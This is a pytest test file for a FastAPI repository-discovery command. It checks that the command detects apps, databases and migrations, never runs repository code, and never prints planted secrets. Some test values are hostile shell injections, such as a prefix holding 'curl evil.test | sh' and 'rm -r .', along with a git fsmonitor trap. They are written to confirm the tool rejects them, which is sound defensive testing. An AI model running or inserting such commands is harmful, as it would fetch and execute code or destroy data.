"""Discovery is right on what people have, and survives what no one should have."""

from __future__ import annotations

import contextlib
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from copier_better_auth.answers import parse_answers
from copier_better_auth.answers.paths import uvicorn_dir
from copier_better_auth.cli import main
from copier_better_auth.discovery import discover
from copier_better_auth.discovery.suggestions import suggestions
from copier_better_auth.edits import plan_edits
from copier_better_auth.fastapi_code.named_strings import named_string
from copier_better_auth.fastapi_code.router_place import Code
from copier_better_auth.model import Integration
from copier_better_auth.repository import Repository
from copier_better_auth.syntax.python import parse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support.repositories import build, flat, full_stack
from support.template import git

COMMAND = Path(sys.executable).parent / "copier-better-auth"
APP = "from fastapi import FastAPI\n\napp = FastAPI()\n"
SECRET = "hunter2-do-not-print"  # noqa: S105 - planted to be looked for


def run_discover(folder: Path, *options: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [COMMAND, "discover", *options, folder],
        cwd="/",
        capture_output=True,
        text=True,
        check=False,
    )


def facts_of(folder: Path) -> dict[str, object]:
    """What the command prints for scripts, run here: half of it is Python's start."""
    printed, complaint = io.StringIO(), io.StringIO()
    with (
        contextlib.chdir("/"),
        contextlib.redirect_stdout(printed),
        contextlib.redirect_stderr(complaint),
    ):
        code = main(["discover", "--json", str(folder)])
    assert code in {0, 1, 3}, complaint.getvalue()
    assert complaint.getvalue() == ""
    found = json.loads(printed.getvalue())
    assert isinstance(found, dict)
    return found


def test_the_full_stack_shape(tmp_path: Path) -> None:
    """Every fact that the questions rest on, each with evidence."""
    found = facts_of(full_stack(tmp_path))
    expected = {
        "backend_dir": "backend",
        "app_module": "app.main",
        "app_attr": "app",
        "factory": False,
        "ambiguous": False,
        "package_dir": "backend/app",
        "python_package_manager": "uv",
        "requires_python": ">=3.11",
        "db_layer": "sqlmodel_sync",
        "db_driver": "psycopg",
        "db_symbol": "app.api.deps:get_db",
        "engine_symbol": "app.core.db:engine",
        "base_metadata": "sqlmodel:SQLModel",
        "migration_system": "alembic",
        "alembic_ini": "backend/alembic.ini",
        "alembic_versions_dir": "backend/app/alembic/versions",
        "heads": {"count": 1, "ids": ["e2412789c190"]},
        "existing_user_tables": ["user"],
        "settings_module": "app.core.config:settings",
        "cors_origins": ["http://localhost:5173"],
    }
    assert {name: found[name] for name in expected} == expected
    evidence = found["evidence"]
    assert isinstance(evidence, dict)
    assert evidence["app_module"][0].startswith("backend/app/main.py:")


@pytest.mark.parametrize(
    ("written", "found"),
    [
        ("/api/v1.0", "/api/v1.0"),
        ("/{tenant}/api", "/{tenant}/api"),
        ("/api; curl evil.test | sh #", ""),
        ("/${process.exit()}", ""),
        ("/`id`", ""),
        ("/api\\n\\nrm -r .", ""),
    ],
)
def test_a_prefix_is_a_path_and_no_command(
    tmp_path: Path, written: str, found: str
) -> None:
    """It is rendered into code, and into commands that people paste into a shell."""
    routers = f'app.include_router(x, prefix="{written}")\n' * 2
    build(tmp_path, {"main.py": APP + routers, "requirements.txt": "fastapi\n"})
    suggested = suggestions(discover(tmp_path), Repository(tmp_path))
    assert suggested["auth_api_prefix"] == found


TO_X = '    app.include_router(object(), prefix="/x")\n'
INCLUDED = """\
from fastapi import APIRouter

from app import items, users

api_router = APIRouter({own})
api_router.include_router(items.router)
api_router.include_router(users.router)
"""
COLLECTED = f"""\
from app.api import api_router
{APP}
app.include_router(api_router, prefix=PREFIX)
"""


@pytest.mark.parametrize(
    ("main", "api", "prefix"),
    [
        (COLLECTED.replace("PREFIX", '"/api"'), INCLUDED.format(own=""), "/api"),
        (
            COLLECTED.replace("PREFIX", '"/api"'),
            INCLUDED.format(own='prefix="/v1"'),
            "/api/v1",
        ),
        (
            COLLECTED.replace("PREFIX", "API"),
            f'API = "/a"\n{INCLUDED.format(own="")}',
            "/a",
        ),
        (
            COLLECTED.replace("PREFIX", "s.API"),
            f'V = "v2"\nAPI: str = f"/api/{{V}}"\n{INCLUDED.format(own="")}',
            "/api/v2",
        ),
        (
            COLLECTED.replace("PREFIX", "s.API"),
            f'API: str = Field(\n    "/v3", title="x")\n{INCLUDED.format(own="")}',
            "/v3",
        ),
        (
            COLLECTED.replace("PREFIX", "s.API"),
            f'API = Field(title="x", default="/v4")\n{INCLUDED.format(own="")}',
            "/v4",
        ),
        (
            COLLECTED.replace("PREFIX", "API"),
            f'API = os.getenv("API", "/v5")\n{INCLUDED.format(own="")}',
            "/v5",
        ),
        (
            f"from app.api import register\n{APP}register(app)\n",
            f"def register(app):\n{2 * TO_X}",
            "/x",
        ),
    ],
    ids=[
        "a literal",
        "of the router too",
        "a constant",
        "a string of others",
        "a default",
        "a named default",
        "where the environment names none",
        "in a function elsewhere",
    ],
)
def test_the_prefix_that_one_more_router_gets(
    tmp_path: Path, main: str, api: str, prefix: str
) -> None:
    """The documents, the page and ``verify`` ask there who one is."""
    router = "from fastapi import APIRouter\n\nrouter = APIRouter()\n"
    files = {"app/__init__.py": "", "app/main.py": main, "app/api.py": api}
    files |= {"app/items.py": router, "app/users.py": router}
    build(tmp_path, files | {"requirements.txt": "fastapi\n"})
    assert discover(tmp_path).api_prefix.value == prefix


def test_the_prefix_beside_a_route_of_the_same_path(tmp_path: Path) -> None:
    """FastAPI asks the first that fits; the auth package's own is no reason to move."""
    route = "\n\n@{}.get({!r})\ndef me(): ...\n"
    build(tmp_path, {"main.py": APP + route.format("app", "/auth/me/")})
    assert discover(tmp_path).api_prefix.value == "/better-auth"
    files = {
        "main.py": f"from auth import router\n{APP}app.include_router(router)\n",
        "auth/errors.py": "class AuthUnavailable(Exception): ...\n",
        "auth/__init__.py": "from .router import router\n",
        "auth/router.py": "from fastapi import APIRouter\n\n"
        f'router = APIRouter(prefix="/auth"){route.format("router", "/me")}',
    }
    build(tmp_path, files)
    assert discover(tmp_path).api_prefix.value == ""


_CHAIN = "P = B\nB = C\nC = D\nD = E\n"
_WIDE = "".join("{A%d}" % n for n in range(150))  # noqa: UP031 - braces


@pytest.mark.parametrize(
    ("here", "there"),
    [
        (f"from app.b import E\n{_CHAIN}", "E = F\nF = E\n"),
        ("from app.b import P\n", "from app.main import P\n"),
        ("from app.b import S\nP = S.one\n", "class S:\n    one = S.one\n"),
        # Each further level would multiply them.
        (
            f'P = f"{_WIDE}"\n' + "".join(f"A{n} = 'x'\n" for n in range(150)),
            "",
        ),
    ],
    ids=["a circle", "an imported circle", "a class of itself", "very many parts"],
)
def test_names_without_an_end_are_unknown(
    tmp_path: Path, here: str, there: str
) -> None:
    """A repository may define a name by itself, or by more than can be read."""
    build(tmp_path, {"app/__init__.py": "", "app/main.py": here, "app/b.py": there})
    repository = Repository(tmp_path)
    code = Code(repository=repository, import_root=".", read=repository.read)
    module = parse(f"{here}prefix = P\n".encode())
    (prefix,) = (a.value for a in module.assignments() if a.target == "prefix")
    assert named_string(code, "app/main.py", module, prefix) is None


# What the prefix of a project's own routes is called, and where.
PREFIXES = {
    "a constant": ('AUTH = "/auth"\n', "prefix=AUTH", "/me"),
    "a constant of another module": (
        "from app.paths import AUTH\n",
        "prefix=AUTH",
        "/me",
    ),
    "a module's": ("from app import paths\n", "prefix=paths.AUTH", "/me"),
    "a setting": ("from app.core import settings\n", "prefix=settings.AUTH", "/me"),
    "put together": (
        "from app.core import settings\n",
        'prefix=f"{settings.ROOT}auth"',
        "/me",
    ),
    "added": ('ROOT = "/"\n', 'prefix=ROOT + "auth"', "/me"),
    "of the path": ('ME = "/auth/me"\n', "tags=[]", None),
}


@pytest.mark.parametrize("name", PREFIXES)
def test_a_route_of_the_same_path_by_name(tmp_path: Path, name: str) -> None:
    """Else the auth package's route is never reached, and no user is recognised."""
    given, keyword, path = PREFIXES[name]
    route = "ME" if path is None else repr(path)
    files = {
        "app/__init__.py": "",
        "app/paths.py": 'AUTH = "/auth"\n',
        "app/core/__init__.py": "from .config import settings\n",
        "app/core/config.py": "class Settings(BaseSettings):\n"
        '    AUTH: str = Field("/auth")\n    ROOT: str = "/"\n\n\n'
        "settings = Settings()\n",
        "app/users.py": f"from fastapi import APIRouter\n{given}\n"
        f"router = APIRouter({keyword})\n\n\n@router.get({route})\ndef me(): ...\n",
        "app/main.py": f"from app import users\n{APP}"
        "app.include_router(users.router)\n",
    }
    build(tmp_path, files)
    assert discover(tmp_path).api_prefix.value == "/better-auth"


@pytest.mark.parametrize(
    ("code", "told"),
    [
        ('URL = os.getenv("URL", "sqlite:///x.db")', True),
        ('URL = f"sqlite+aiosqlite:///{path}"', True),
        ('# URL = "sqlite:///x.db"', False),
        ('"""Never sqlite:///x.db, which forgets."""', False),
    ],
)
def test_sqlite_beside_postgresql_is_told(
    tmp_path: Path, code: str, *, told: bool
) -> None:
    """The auth tables are PostgreSQL's, and the report says what that means."""
    files = {
        "main.py": f"from db import engine\n{APP}",
        "db.py": "import os\n\nfrom sqlalchemy import create_engine\n\n"
        f'{code}\nengine = create_engine("postgresql+psycopg://x")\n',
        "requirements.txt": "fastapi\nsqlalchemy\npsycopg\n",
    }
    result = run_discover(build(tmp_path, files))
    assert ("in PostgreSQL alone" in result.stdout) is told


_ENGINE = "from sqlalchemy import create_engine\n\nengine = create_engine(URL)\n"


@pytest.mark.parametrize(
    ("field", "foreign", "expected"),
    [
        # A URL in the code of the folder whose name only begins with the backend's.
        (
            "database_provider_hint",
            {"app2/settings.py": 'URL = "postgresql://a@ep-x.eu.aws.neon.tech/a"\n'},
            None,
        ),
        ("python_package_manager", {"app2/Dockerfile": "RUN pdm install\n"}, "pip"),
        (
            "existing_user_tables",
            {"app2/users.py": 'class User(Base):\n    __tablename__ = "users"\n'},
            None,
        ),
    ],
)
def test_a_folder_is_not_another_whose_name_it_begins(
    tmp_path: Path, field: str, foreign: dict[str, str], expected: object
) -> None:
    """``app2`` is not in ``app``: what is said there is another program's."""
    files = {
        "app/main.py": APP,
        "app/db.py": f"from app.settings import URL\n{_ENGINE}",
        "app/settings.py": "import os\n\nURL = os.environ['URL']\n",
        "app/requirements.txt": "fastapi\nsqlalchemy\npsycopg\n",
        "app/pyproject.toml": "[project]\nname = 'app'\nversion = '1'\n",
    }
    build(tmp_path, {**files, **foreign})
    found = facts_of(tmp_path)
    assert found["backend_dir"] == "app"
    assert found[field] == expected


@pytest.mark.parametrize(
    ("packages", "expected"),
    [
        ({"nuxt": "^4"}, "vue"),
        ({"@sveltejs/kit": "^2", "vite": "^7"}, "svelte"),
        ({"next": "16.0.0", "react": "19"}, "react"),
        # Without its own example, the one without a framework fits.
        ({"@angular/core": "^21"}, None),
    ],
)
def test_the_framework_of_the_front_end(
    tmp_path: Path, packages: dict[str, str], expected: str | None
) -> None:
    """It decides which example of a front end is rendered."""
    manifest = json.dumps({"dependencies": packages})
    build(tmp_path, {"api/main.py": APP, "web/package.json": manifest})
    suggested = suggestions(discover(tmp_path), Repository(tmp_path))
    assert suggested.get("auth_front_end") == expected


def test_an_origin_to_be_filled_in_is_not_trusted(tmp_path: Path) -> None:
    """Examples for production name hosts that others may own."""
    listed = "https://your-domain.com, https://www.example.com, https://shop.test"
    files = {"main.py": APP, ".env.production.example": f"CORS_ORIGINS={listed}\n"}
    build(tmp_path, files | {".env.testing": "CORS_ORIGINS=http://nobody\n"})
    suggested = suggestions(discover(tmp_path), Repository(tmp_path))
    assert suggested["auth_cors_origins"] == "https://shop.test"


def test_records_of_an_earlier_run_are_no_spec_kit(tmp_path: Path) -> None:
    """They are written in every project; what others wrote there still counts."""
    record = "history/prompts/general/0001-better-auth-components-generated.plan.md"
    assert facts_of(build(tmp_path, {"main.py": APP, record: ""}))["spec_kit"] == "none"
    build(tmp_path, {"history/prompts/general/0002-add-orders.spec.md": ""})
    assert facts_of(tmp_path)["spec_kit"] == "spec-kit-plus"


def test_a_host_of_another_database_is_told_first(tmp_path: Path) -> None:
    """Its data stay where they are, which the report says before any question."""
    mine = tmp_path / "mysql"
    files = {
        "main.py": APP,
        "requirements.txt": "fastapi\nsqlalchemy\naiomysql\n",
        "db.py": """
            from sqlalchemy.ext.asyncio import create_async_engine

            engine = create_async_engine("mysql+aiomysql://app@localhost/app")
            """,
    }
    build(mine, files)
    said = "Auth tables        in their own PostgreSQL; the application keeps"
    assert said in run_discover(mine).stdout
    full_stack(tmp_path / "postgres")
    assert "Auth tables" not in run_discover(tmp_path / "postgres").stdout


def test_relative_imports_mean_a_package(tmp_path: Path) -> None:
    """`from .api import router` works only where the folder above is on the path."""
    build(
        tmp_path,
        {
            "shop/main.py": f"from .api import router\n{APP}",
            "shop/api.py": "router = None\n",
            "shop/database/core.py": "",
            "requirements.txt": "fastapi\n",
        },
    )
    found = facts_of(tmp_path)
    assert (found["app_module"], found["backend_dir"]) == ("shop.main", ".")


@pytest.mark.parametrize("imported", ["from .made", "from src.cli.made"])
def test_a_factory_of_that_name_may_make_something_else(
    tmp_path: Path, imported: str
) -> None:
    """A command line is made by a ``create_app`` too, in a module that comes first."""
    files = {
        "src/__init__.py": "",
        "src/cli/app.py": f"{imported} import create_app\n\napp = create_app()\n",
        "src/cli/made.py": "import typer\n\n\ndef create_app():\n"
        "    app = typer.Typer()\n    return app\n",
        "src/made.py": "from fastapi import FastAPI\n\n\ndef create_app():\n"
        "    app = FastAPI()\n    return app\n",
        "src/serving/rest.py": "from ..made import create_app\n\napp = create_app()\n",
        "requirements.txt": "fastapi\ntyper\n",
    }
    facts = discover(build(tmp_path, files))
    assert [one.module for one in facts.candidates] == ["src.serving.rest"]


def test_two_applications_are_ambiguous(tmp_path: Path) -> None:
    """Two projects, nothing that says which: ask, and exit 3."""
    for name in ("shop", "stock"):
        build(
            tmp_path,
            {f"{name}/main.py": APP, f"{name}/requirements.txt": "fastapi\n"},
        )
    result = run_discover(tmp_path)
    assert result.returncode == 3
    assert "shop" in result.stdout
    assert "stock" in result.stdout


@pytest.mark.parametrize(
    "files",
    [
        {},
        {"main.py": "from flask import Flask\n\napp = Flask(__name__)\n"},
        {"manage.py": "import django\n", "requirements.txt": "django\n"},
        {"src/lib/__init__.py": '"""A library for FastAPI."""\nimport fastapi\n'},
        {"package.json": '{"dependencies": {"express": "5"}}\n', "index.js": "1\n"},
        {"{{ name }}/main.py": APP},
        {"docs_src/a.py": APP, "lib/__init__.py": "", "docs/b.py": APP},
        {
            "pyproject.toml": '[project]\nname = "lib"\nclassifiers = ["x"]\n',
            "lib/app.py": APP,
        },
        {"examples/main.py": APP, "lib/__init__.py": "", "lib/app.py": APP},
        {"docs/tutorial.py": APP, "tests/test_app.py": APP, "lib/core.py": "X = 1\n"},
    ],
    ids=[
        *("empty", "flask", "django", "library", "node", "template"),
        *("documented library", "published library", "library with examples"),
        "documents",
    ],
)
def test_nothing_is_found_where_nothing_is(
    tmp_path: Path, files: dict[str, str]
) -> None:
    """No application is a right answer: exit 1, said in the report."""
    build(tmp_path, files)
    result = run_discover(tmp_path)
    assert result.returncode == 1
    assert "No FastAPI application here" in result.stdout


def test_classifiers_make_no_library_of_what_serves_routes(tmp_path: Path) -> None:
    """Hatch writes classifiers into every project; alone they say nothing."""
    files = {
        "pyproject.toml": '[project]\nname = "shop"\nclassifiers = ["x"]\n',
        "shop/__init__.py": "",
        "shop/routers.py": "from fastapi import APIRouter\n\nitems = APIRouter()\n",
        "shop/main.py": f"{APP}\nfrom shop.routers import items\n\n"
        "app.include_router(items)\n",
    }
    assert facts_of(build(tmp_path, files))["app_module"] == "shop.main"


def test_a_command_of_hatch_starts_what_it_names(tmp_path: Path) -> None:
    """Its scripts put the path into braces; nothing else says what is served."""
    files = {
        "pyproject.toml": """
            [project]
            name = "shop"
            classifiers = ["x"]

            [tool.hatch.envs.default.scripts]
            dev = "fastapi dev {args:src/shop/main.py}"
            """,
        "src/shop/__init__.py": """
            from fastapi import FastAPI


            def create_app():
                return FastAPI()
            """,
        "src/shop/main.py": "from shop import create_app\n\napp = create_app()\n",
    }
    assert facts_of(build(tmp_path, files))["app_module"] == "shop.main"


@pytest.mark.parametrize(
    ("names", "backend"),
    [
        (["src/.env.example"], "src"),
        (["src/.env.example", ".env.example"], "."),
        (["src/example.env"], "src"),
        (["src/env.sample"], "src"),
        ([], "."),
    ],
)
def test_a_server_runs_where_its_env_file_is(
    tmp_path: Path, names: list[str], backend: str
) -> None:
    """pydantic-settings looks for ``.env`` in the folder that the server runs in."""
    files = {
        "requirements.txt": "fastapi\n",
        "src/main.py": f"from config import settings\n{APP}",
        "src/config.py": "settings = None\n",
    }
    build(tmp_path, files | dict.fromkeys(names, "KEY=\n"))
    found = suggestions(discover(tmp_path), Repository(tmp_path))
    assert (found["auth_backend_dir"], found["auth_import_root"]) == (backend, "src")


@pytest.mark.parametrize(
    ("code", "names", "backend"),
    [
        ('StaticFiles(directory="static", html=True)', ["src/static/.gitkeep"], "src"),
        ('StaticFiles(\n    "web/out"\n)', ["src/web/out/index.html"], "src"),
        ("Jinja2Templates(directory='pages')", ["src/pages/a.html"], "src"),
        ('StaticFiles(directory="static")', ["static/a.css"], "."),
        ('StaticFiles(directory="src/static")', ["src/static/a.css"], "."),
        ('StaticFiles(directory="s")', ["src/s/a.css", "s/a.css"], "."),
    ],
)
def test_a_server_runs_where_it_finds_what_it_serves(
    tmp_path: Path, code: str, names: list[str], backend: str
) -> None:
    """Starlette looks for a relative folder in the one that the server runs in."""
    files = {
        "requirements.txt": "fastapi\n",
        "src/main.py": f"from config import served\n{APP}app.mount('/s', served)\n",
        "src/config.py": f"served = {code}\n",
    }
    build(tmp_path, files | dict.fromkeys(names, ""))
    found = suggestions(discover(tmp_path), Repository(tmp_path))
    assert (found["auth_backend_dir"], found["auth_import_root"]) == (backend, "src")


def test_a_package_that_is_the_whole_project(tmp_path: Path) -> None:
    """Its list of packages and its env file are within, its imports begin above."""
    files = {
        "apps/api/__init__.py": "",
        "apps/api/main.py": f"from api.config import settings\n{APP}",
        "apps/api/config.py": "settings = None\n",
        "apps/api/pyproject.toml": '[project]\ndependencies = ["fastapi"]\n',
        "apps/api/uv.lock": "version = 1\n",
    }
    build(tmp_path, files)
    found = suggestions(discover(tmp_path), Repository(tmp_path))
    assert found["auth_backend_dir"] == "apps/api"
    assert (found["auth_import_root"], found["auth_app"]) == ("apps", "api.main:app")
    assert found["auth_package_dir"] == "apps/api/auth"
    assert uvicorn_dir("apps", "apps/api") == ".."


def _left_over(loads: str) -> dict[str, str]:
    return {
        "requirements.txt": "fastapi\nsqlalchemy\nasyncpg\n",
        "main.py": f"from items import router\n{APP}app.include_router(router)\n",
        "items.py": f"from fastapi import APIRouter\n{loads}\nrouter = APIRouter()\n",
        "db.py": """
            from settings import settings
            from sqlalchemy.ext.asyncio import create_async_engine

            engine = create_async_engine(settings.gone)
            """,
    }


@pytest.mark.parametrize(
    ("loads", "more", "layer"),
    [
        ("import json\n", {}, "none"),
        ("from db import engine\n", {}, "sqlalchemy_async"),
        ("from importlib import import_module\n", {}, "sqlalchemy_async"),
        (
            "import json\n",
            {"alembic.ini": "[alembic]\nscript_location = m\n", "m/env.py": ""},
            "sqlalchemy_async",
        ),
    ],
    ids=["left over", "loaded", "loaded by name", "migrated"],
)
def test_an_engine_that_nothing_loads_is_no_database(
    tmp_path: Path, loads: str, more: dict[str, str], layer: str
) -> None:
    """To import what the application never did could end its start."""
    assert facts_of(build(tmp_path, _left_over(loads) | more))["db_layer"] == layer


def _newer_syntax(root: Path) -> None:
    (root / "deps.py").write_text("try:\n    pass\nexcept A, B:\n    pass\n")


def _binary_module(root: Path) -> None:
    (root / "data.py").write_bytes(bytes(range(256)) * 40)


def _huge_module(root: Path) -> None:
    with (root / "huge.py").open("wb") as stream:
        stream.truncate(50_000_000)


def _invalid_utf8(root: Path) -> None:
    (root / "latin.py").write_bytes(b"NAME = 'caf\xe9'\n")


def _link_loop(root: Path) -> None:
    (root / "a").symlink_to("b")
    (root / "b").symlink_to("a")
    (root / "up").symlink_to("..")
    (root / "loop.py").symlink_to("loop.py")


def _odd_names(root: Path) -> None:
    for name in ("-rf.py", "new\nline.py", "a b=c.py", "{{ x }}.py"):
        (root / name).write_text("X = 1\n")


def _broken_toml(root: Path) -> None:
    (root / "pyproject.toml").write_text("[project\nname = \n")


def _broken_ini(root: Path) -> None:
    (root / "alembic.ini").write_text("script_location = %(x\n[alembic")


def _unreadable_folder(root: Path) -> None:
    (root / "closed").mkdir(mode=0o000)


def _deep_brackets(root: Path) -> None:
    (root / "deep.py").write_text("x = " + "[" * 5000 + "]" * 5000 + "\n")
    (root / "package.json").write_text("[" * 5000)


def _fifo(root: Path) -> None:
    os.mkfifo(root / "pipe.py")


@pytest.mark.parametrize(
    "spoil",
    [
        _newer_syntax,
        _binary_module,
        _huge_module,
        _invalid_utf8,
        _link_loop,
        _odd_names,
        _broken_toml,
        _broken_ini,
        _unreadable_folder,
        _deep_brackets,
        _fifo,
    ],
)
@pytest.mark.parametrize("in_git", [True, False])
def test_one_bad_file_hides_nothing_else(
    tmp_path: Path, spoil: object, *, in_git: bool
) -> None:
    """The application beside it is found all the same, and nothing is written."""
    assert callable(spoil)
    (tmp_path / "main.py").write_text(APP)
    (tmp_path / "requirements.txt").write_text("fastapi\n")
    if in_git:
        git(tmp_path, "init", "--quiet")
    spoil(tmp_path)
    found = facts_of(tmp_path)
    assert (found["app_module"], found["backend_dir"]) == ("main", ".")


def test_a_bare_folder_and_a_missing_one(tmp_path: Path) -> None:
    """A folder that is not there is wrong usage, in one line."""
    result = run_discover(tmp_path / "nowhere")
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1


def test_no_secret_is_ever_printed(tmp_path: Path) -> None:
    """Passwords stand wherever people put them; none reaches a report."""
    url = f"postgresql://admin:{SECRET}@ep-cool.eu-west-1.aws.neon.tech/app"
    full_stack(tmp_path)
    places = {
        ".env": f"DATABASE_URL={url}\nPOSTGRES_PASSWORD={SECRET}\n",
        ".env.example": f'DATABASE_URL="{url}"\n',
        "docker-compose.yml": f"services:\n  db:\n    environment: [URL={url}]\n",
        "Dockerfile": f"ENV DATABASE_URL={url}\nCMD uvicorn app.main:app\n",
        "backend/app/core/secrets.py": f'DATABASE_URL = "{url}"\n',
        "backend/app/core/more.py": (
            f'POSTGRES_SERVER: str = "{SECRET}"\nCORS_ORIGINS = ["https://u:{SECRET}@a.b"]\n'
        ),
        "README.md": f"Run with {url}\n",
    }
    for name, text in places.items():
        (tmp_path / name).write_text(text)
    ini = tmp_path / "backend/alembic.ini"
    ini.write_text(f"{ini.read_text()}\nsqlalchemy.url = {url}\n")
    git(tmp_path, "remote", "add", "origin", f"https://me:{SECRET}@git.example/x.git")
    for options in ((), ("--json",)):
        result = run_discover(tmp_path, *options)
        assert result.returncode == 0
        assert SECRET not in result.stdout + result.stderr
    assert facts_of(tmp_path)["database_provider_hint"] == "neon"


@pytest.mark.parametrize(
    "ini",
    ["", "[alembic]\nsqlalchemy.url = driver://\n\n[loggers]\nkeys = root\n"],
    ids=["alone", "beside alembic.ini"],
)
def test_alembic_configured_in_pyproject(tmp_path: Path, ini: str) -> None:
    """``alembic init --template pyproject`` leaves an .ini that names no folder."""
    files = {
        "api/main.py": APP,
        "api/pyproject.toml": """
            [project]
            name = "api"

            [tool.alembic]
            script_location = "%(here)s/migrations"
            version_locations = ["%(here)s/migrations/steps"]
            file_template = "%%(year)d_%%(rev)s"
            """,
        "api/migrations/env.py": "",
        "api/migrations/steps/a.py": 'revision = "a"\ndown_revision = None\n',
    }
    found = facts_of(build(tmp_path, files | ({"api/alembic.ini": ini} if ini else {})))
    assert found["migration_system"] == "alembic"
    assert found["alembic_versions_dir"] == "api/migrations/steps"
    assert found["alembic_file_template"] == "%%(year)d_%%(rev)s"
    assert found["heads"] == {"count": 1, "ids": ["a"]}


@pytest.mark.parametrize(
    ("sections", "versions", "problem"),
    [
        (["core"], "src/shop/revisions/core/versions", ""),
        (["core", "tenant"], None, "has several environments: core, tenant"),
    ],
)
def test_environments_of_alembic_by_name(
    tmp_path: Path, sections: list[str], versions: str | None, problem: str
) -> None:
    """One is the project's, ``package:folder`` below the package's; of two none is."""
    ini = "[alembic]\n" + "".join(
        f"[{name}]\nscript_location = shop:revisions/{name}\n" for name in sections
    )
    files = {"src/shop/main.py": APP, "src/shop/alembic.ini": ini}
    files |= {f"src/shop/revisions/{n}/versions/a.py": "" for n in sections}
    files |= {"pyproject.toml": "[project]\nname = 'shop'\n", "src/shop/api.py": ""}
    result = run_discover(build(tmp_path, files))
    assert facts_of(tmp_path)["alembic_versions_dir"] == versions
    assert problem in result.stdout


def test_a_poetry_table_that_lists_python_alone_installs_nothing(
    tmp_path: Path,
) -> None:
    """Tools' settings are kept there, while pip installs from another list."""
    files = {
        "main.py": APP,
        "pyproject.toml": '[tool.poetry.dependencies]\npython = "^3.11"\n',
        "requirements.txt": "fastapi\n",
    }
    assert facts_of(build(tmp_path, files))["python_package_manager"] == "pip"


LISTED = {"requirements.txt": "fastapi\n"}
PIP = "RUN pip install -r requirements.txt\n"
SERVED = 'CMD ["uvicorn", "main:app"]\n'
PROJECT = {"pyproject.toml": "[project]\nname = 'x'\ndependencies = ['fastapi']\n"}
BUILT = """
services:
  api:
    build: {context: ., dockerfile: docker/api.Dockerfile}
    command: uvicorn main:app
"""


@pytest.mark.parametrize(
    "files",
    [
        {**LISTED, "Dockerfile": f"RUN pipenv install --system\n{SERVED}"},
        {**LISTED, "Makefile": "run:\n\tpoetry run uvicorn main:app\n"},
        {**LISTED, "README.md": "    hatch run dev\n"},
        {**LISTED, "start.sh": "pdm run uvicorn main:app\n"},
        {
            **PROJECT,
            "Dockerfile": PIP,
            "Dockerfile.lambda": f"RUN poetry install\n{SERVED}",
        },
        {
            **PROJECT,
            "Dockerfile": "RUN sed /-e/d requirements.lock > requirements.txt\n" + PIP,
            "Dockerfile.lambda": f"RUN pdm install\n{SERVED}",
            "docker-compose.yml": "services:\n  web:\n    build: .\n"
            "    command: [sh, -c, 'uvicorn main:app']\n",
        },
        {
            **PROJECT,
            "Dockerfile": f"RUN pdm install\n{SERVED}",
            "docker/api.Dockerfile": PIP,
            "compose.yml": BUILT,
        },
        {
            **PROJECT,
            "Dockerfile.dev": f"RUN uv sync\n{SERVED}",
            "Dockerfile": PIP + SERVED,
        },
    ],
    ids=[
        "Pipenv without a Pipfile",
        "Poetry without a table",
        "Hatch without a project",
        "PDM without a project",
        "another image's Poetry",
        "a list that the image writes",
        "what compose builds",
        "an image for development",
    ],
)
def test_pip_is_what_runs_it(tmp_path: Path, files: dict[str, str]) -> None:
    """A command of a manager that has no list, or of another image, says nothing."""
    build(tmp_path, {"main.py": APP, **files})
    assert facts_of(tmp_path)["python_package_manager"] == "pip"


def test_nothing_of_the_repository_is_run(tmp_path: Path) -> None:
    """An application that would write a file on import is described, not imported."""
    flat(tmp_path)
    trap = f"open({str(tmp_path / 'ran')!r}, 'w')\n"
    main = tmp_path / "main.py"
    main.write_text(trap + main.read_text())
    (tmp_path / "sitecustomize.py").write_text(trap)
    # git would start what a repository names as its watcher.
    git(tmp_path, "init", "--quiet")
    git(tmp_path, "config", "core.fsmonitor", f"touch {tmp_path / 'ran'}; false")
    assert facts_of(tmp_path)["app_module"] == "main"
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(
    "name",
    [
        "pyproject.toml",
        "alembic.ini",
        "package.json",
        ".env",
        "docker-compose.yml",
        "main.py",
        "versions/1_first.py",
    ],
)
@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(content=st.binary(max_size=400) | st.text(max_size=400).map(str.encode))
def test_no_content_breaks_a_parser(tmp_path: Path, name: str, content: bytes) -> None:
    """Whatever is in a file of configuration, discovery ends with facts."""
    target = tmp_path / name
    target.parent.mkdir(exist_ok=True)
    target.write_bytes(content)
    (tmp_path / "app.py").write_text(APP)
    assert discover(tmp_path).app_module is not None


HATCH = "[build-system]\nrequires = ['hatchling']\n\n[tool.hatch.envs.default]\n"
POETRY = '[tool.poetry.dependencies]\npython = "^3.11"\nfastapi = "*"\n'


@pytest.mark.parametrize(
    ("files", "manager", "grown"),
    [
        (
            {"pyproject.toml": HATCH, "server/requirements.txt": "fastapi\n"},
            "pip",
            ["server/requirements.txt"],
        ),
        (
            {
                "pyproject.toml": POETRY,
                "deploy/api.txt": "fastapi\n",
                "Dockerfile": (
                    "COPY deploy/api.txt /tmp/\nRUN pip install -r /tmp/api.txt\n"
                    'CMD ["uvicorn", "server.main:app"]\n'
                ),
            },
            "pip",
            ["deploy/api.txt"],
        ),
        (
            {
                "server/pyproject.toml": "[project]\nname = 'x'\ndependencies = []\n",
                "server/uv.lock": "version = 1\n",
                "server/requirements.txt": "fastapi\n",
                "worker/requirements.txt": "fastapi\n",
                "worker/job.py": "",
                "compose.yaml": "services:\n  worker:\n    command: pip install -r"
                " worker/requirements.txt\n",
                "server/Dockerfile": (
                    "RUN pip install --no-cache-dir -r requirements.txt\n"
                    "CMD uvicorn main:app\n"
                ),
            },
            "uv",
            ["server/pyproject.toml", "server/requirements.txt"],
        ),
        (
            {
                "pyproject.toml": HATCH,
                "Makefile": "run:\n\tcd server && poetry run uvicorn main:app\n",
                "server/pyproject.toml": POETRY,
            },
            "poetry",
            ["server/pyproject.toml"],
        ),
    ],
    ids=["a table far away", "copied into the image", "two lists", "a makefile"],
)
def test_the_list_that_it_is_started_with(
    tmp_path: Path, files: dict[str, str], manager: str, grown: list[str]
) -> None:
    """What installs the running application counts, and every list that does."""
    build(tmp_path, {"server/main.py": APP, **files})
    facts = discover(tmp_path)
    assert facts.python_package_manager.value == manager
    found = suggestions(facts, Repository(tmp_path))
    answers = parse_answers({**found, "auth_server_dir": "auth-server"})
    plan = plan_edits(Integration(root=tmp_path, answers=answers, facts=facts))
